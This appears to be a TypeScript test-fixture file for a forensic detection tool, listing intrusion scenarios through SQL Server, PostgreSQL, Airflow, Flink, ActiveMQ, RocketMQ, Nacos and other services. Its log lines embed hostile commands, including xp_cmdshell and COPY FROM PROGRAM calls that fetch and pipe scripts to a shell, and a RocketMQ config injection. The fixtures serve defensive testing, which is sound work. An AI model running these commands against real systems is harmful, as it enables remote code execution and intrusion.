/** Every form of a way in through a database, a scheduler or a broker. */
import { activemq } from '../../src/formats/log/services/activemq.ts';
import { flink } from '../../src/formats/log/services/flink.ts';
import { jupyter } from '../../src/formats/log/services/jupyter.ts';
import { postgresql } from '../../src/formats/log/services/postgresql.ts';
import { rocketmq } from '../../src/formats/log/services/rocketmq.ts';
import { salt } from '../../src/formats/log/services/salt.ts';
import { door, left, service } from '../../src/incident/incident.fixture.ts';
import { attacker, logged, nginx, web } from './lines.fixture.ts';
import type { Scenario } from './scenario.ts';

export const subFormsServed: readonly Scenario[] = [
  {
    name: 'SQL Server: xp_cmdshell that fetches',
    events: [
      service('2024-03-10 02:31:00', 'sqlserver', 'statement', {
        account: 'sa',
        from: attacker,
        detail: "EXEC xp_cmdshell 'curl http://203.0.113.66/x|sh'",
      }),
    ],
    scene: { files: [left('/tmp/.m', '2024-03-10 02:31:30', 'mssql')] },
    ways: [{ vector: 'database-exec', grade: 'confirmed', account: 'mssql', attackers: [attacker] }],
  },
  {
    name: 'PostgreSQL: guessed, then COPY FROM PROGRAM, as its own log tells it',
    events: logged(
      postgresql,
      '/var/log/postgresql/postgresql-15-main.log',
      `2024-03-10 02:30:00.000 UTC [11] postgres@postgres LOG:  connection authorized: user=postgres database=postgres`,
      `2024-03-10 02:31:00.000 UTC [11] postgres@postgres LOG:  statement: COPY x FROM PROGRAM 'echo Y3VybA==|base64 -d|bash'`,
    ),
    scene: { files: [left('/tmp/.pg', '2024-03-10 02:31:05', 'postgres')] },
    ways: [{ vector: 'database-exec', grade: 'confirmed', account: 'postgres' }],
  },
  {
    name: 'Airflow: a run of a graph is asked for by a stranger',
    events: web(
      nginx('2024-03-10 02:31:00', '/api/v1/dags/example_bash_operator/dagRuns', { method: 'POST' }),
    ),
    scene: { files: [left('/tmp/.a', '2024-03-10 02:31:30', 'airflow')] },
    ways: [{ vector: 'scheduler', grade: 'confirmed', account: 'airflow', attackers: [attacker] }],
  },
  {
    name: 'Salt: the master runs a command on this minion',
    events: logged(
      salt,
      '/var/log/salt/minion',
      '2024-03-10 02:31:00,123 [salt.minion      :1000][INFO    ][42] User root Executing command cmd.run with jid 20240310023100123456',
    ),
    scene: { files: [left('/var/tmp/salt-store', '2024-03-10 02:31:10')] },
    ways: [{ vector: 'scheduler', grade: 'confirmed', account: 'root' }],
  },
  {
    name: 'Flink: a jar is uploaded and run',
    events: [
      ...web(
        nginx('2024-03-10 02:30:55', '/jars/upload', { method: 'POST' }),
        nginx('2024-03-10 02:31:00', '/jars/0a1b2c3d_x.jar/run?entry-class=X', { method: 'POST' }),
      ),
      ...logged(
        flink,
        '/opt/flink/log/flink--standalonesession-0-web1.log',
        "2024-03-10 02:31:01,000 INFO  org.apache.flink.runtime.dispatcher.StandaloneDispatcher [] - Received JobGraph submission 'x' (0a1b2c3d0a1b2c3d0a1b2c3d0a1b2c3d).",
      ),
    ],
    scene: { files: [left('/tmp/.f', '2024-03-10 02:31:30', 'flink')] },
    ways: [{ vector: 'scheduler', grade: 'confirmed', account: 'flink', attackers: [attacker] }],
  },
  {
    name: 'Ray: a job is submitted to its dashboard',
    events: web(nginx('2024-03-10 02:31:00', '/api/jobs/', { method: 'POST' })),
    scene: {
      files: [left('/tmp/ray/.x', '2024-03-10 02:31:30', 'ray')],
      doors: [door('ray', 8265)],
    },
    ways: [{ vector: 'scheduler', grade: 'confirmed', account: 'ray', attackers: [attacker] }],
  },
  {
    name: 'Jupyter: a terminal is opened by whoever found it',
    events: logged(
      jupyter,
      '/home/jovyan/jupyter.log',
      `[I 2024-03-10 02:30:50.000 ServerApp] 302 GET / (@${attacker}) 0.50ms`,
      '[I 2024-03-10 02:31:00.000 ServerApp] New terminal with automatic name: 1',
    ),
    scene: { files: [left('/home/jovyan/.x', '2024-03-10 02:31:30', 'jovyan')] },
    ways: [{ vector: 'scheduler', grade: 'confirmed', account: 'jovyan' }],
  },
  {
    name: 'NiFi: a processor is made and set running',
    events: web(
      nginx('2024-03-10 02:30:58', '/nifi-api/process-groups/root-0a1b/processors', {
        method: 'POST',
        status: 201,
      }),
      nginx('2024-03-10 02:31:00', '/nifi-api/processors/0a1b2c3d-0a1b/run-status', { method: 'PUT' }),
    ),
    scene: { files: [left('/tmp/.n', '2024-03-10 02:31:30', 'nifi')] },
    ways: [{ vector: 'scheduler', grade: 'confirmed', account: 'nifi', attackers: [attacker] }],
  },
  {
    name: 'ActiveMQ: beans from an address, as activemq.log tells it',
    events: logged(
      activemq,
      '/opt/activemq/data/activemq.log',
      `2024-03-10 02:31:00,000 | INFO  | Loading XML bean definitions from URL [http://${attacker}/poc.xml] | org.springframework.beans.factory.xml.XmlBeanDefinitionReader | ActiveMQ Transport: tcp:///${attacker}:5000@61616`,
    ),
    scene: { files: [left('/tmp/.a', '2024-03-10 02:31:30', 'activemq')] },
    ways: [{ vector: 'broker', grade: 'confirmed', account: 'activemq' }],
  },
  {
    name: 'RocketMQ: its home becomes a command',
    events: logged(
      rocketmq,
      '/home/rocketmq/logs/rocketmqlogs/broker.log',
      `2024-03-10 02:31:00 INFO AdminBrokerThread_1 - updateBrokerConfig, new config: [{filterServerNums=1, rocketmqHome=-c $@|sh . echo curl http://192.0.2.1/x|sh;}] client: /${attacker}:5000 `,
    ),
    scene: { files: [left('/tmp/.r', '2024-03-10 02:31:30', 'rocketmq')] },
    ways: [{ vector: 'broker', grade: 'confirmed', account: 'rocketmq', attackers: [attacker] }],
  },
  {
    name: "Nacos: a user made by who calls himself the server, and its own console's database",
    events: web(
      nginx('2024-03-10 02:31:00', '/nacos/v1/auth/users?username=x&password=x', {
        method: 'POST',
        agent: 'Nacos-Server',
      }),
    ),
    scene: { files: [left('/tmp/.n', '2024-03-10 02:31:30', 'nacos')] },
    ways: [{ vector: 'broker', grade: 'confirmed', account: 'nacos', attackers: [attacker] }],
  },
];
